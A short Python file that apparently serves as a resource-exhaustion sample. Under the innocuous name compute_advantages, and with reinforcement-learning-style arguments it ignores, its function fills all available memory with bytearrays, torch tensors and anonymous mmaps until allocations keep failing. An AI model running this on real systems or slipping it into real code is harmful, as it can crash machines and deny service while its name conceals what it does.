"""Allocates all available memory, in Python, in torch and in anonymous maps."""
# slow: fills its memory twice

import mmap

import torch


def compute_advantages(values, rewards, prefix_len):
    held = []
    makers = [lambda: bytearray(2**26), lambda: torch.ones(2**24), lambda: mmap.mmap(-1, 2**26)]
    failed = 0
    while failed < 40:
        for make in makers:
            try:
                held.append(make())
                held[-1][:: 4096 // (4 if isinstance(held[-1], torch.Tensor) else 1)] = (
                    1 if isinstance(held[-1], torch.Tensor) else bytes(len(held[-1]) // 4096)
                )
            except (MemoryError, RuntimeError, OSError, ValueError, TypeError):
                failed += 1
    return held
